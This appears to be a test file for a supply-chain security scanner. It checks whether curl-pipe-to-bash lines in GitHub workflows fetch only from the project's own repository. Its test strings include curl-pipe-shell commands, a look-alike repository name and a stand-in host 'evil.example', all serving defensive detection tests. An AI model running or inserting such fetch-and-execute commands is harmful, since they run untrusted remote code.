import { describe, expect, it } from 'vitest';
import { ANALYZERS } from '../../../src/core/analyzers/index.js';
import { buildCatalog } from '../../../src/core/rules/catalog.js';
import { fetchesOnlyFrom } from '../../../src/core/scan/own-repository.js';
import { scanChangeSet } from '../../../src/core/scan/engine.js';
import { readRuleSources } from '../../../src/io/rules-dir.js';
import { changeSetOf } from '../../helpers/changeset.js';

describe('fetchesOnlyFrom', () => {
  it('accepts https URLs into the repository itself, on GitHub, raw files and Pages', () => {
    expect(fetchesOnlyFrom('curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash', 'nvm-sh/nvm')).toBe(true);
    expect(fetchesOnlyFrom('curl -sL https://github.com/Acme/Tool/releases/download/v1/install.sh | sh', 'acme/tool')).toBe(true);
    expect(fetchesOnlyFrom('curl https://acme.github.io/tool/get.sh | sh', 'acme/tool')).toBe(true);
  });

  it('refuses other repositories, look-alike names, plain http and lines without a URL', () => {
    expect(fetchesOnlyFrom('curl https://raw.githubusercontent.com/nvm-sh/nvm-evil/main/i.sh | bash', 'nvm-sh/nvm')).toBe(false);
    expect(fetchesOnlyFrom('curl https://raw.githubusercontent.com/other/nvm/main/i.sh | bash', 'nvm-sh/nvm')).toBe(false);
    expect(fetchesOnlyFrom('curl http://raw.githubusercontent.com/nvm-sh/nvm/main/i.sh | bash', 'nvm-sh/nvm')).toBe(false);
    expect(fetchesOnlyFrom('curl https://raw.githubusercontent.com/nvm-sh/nvm/main/i.sh https://evil.example/x | bash', 'nvm-sh/nvm')).toBe(false);
    expect(fetchesOnlyFrom('curl "$URL" | sh', 'nvm-sh/nvm')).toBe(false);
  });
});

describe('a project running its own installer', () => {
  const workflow = (url: string) => `on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL ${url} | bash\n`;

  it('is not remote code from a third party when the change is of that repository', async () => {
    const catalog = buildCatalog(await readRuleSources(), [...ANALYZERS]);
    const data = { popularNpm: new Map(), popularPypi: new Map() };
    const own = workflow('https://raw.githubusercontent.com/nvm-sh/nvm/master/install.sh');
    const other = workflow('https://raw.githubusercontent.com/someone/tool/main/install.sh');
    const files = [
      { path: '.github/workflows/own.yml', code: own },
      { path: '.github/workflows/other.yml', code: other },
    ];
    const ids = async (repository?: string) =>
      (await scanChangeSet({ ...changeSetOf(files), ...(repository ? { repository } : {}) }, { catalog, data }))
        .findings.filter((f) => f.ruleId === 'generic.install-time.curl-pipe-shell')
        .map((f) => f.path);
    expect(await ids('nvm-sh/nvm')).toEqual(['.github/workflows/other.yml']);
    // Without knowing the repository, both are reported.
    expect(await ids()).toEqual(['.github/workflows/other.yml', '.github/workflows/own.yml']);
  });
});
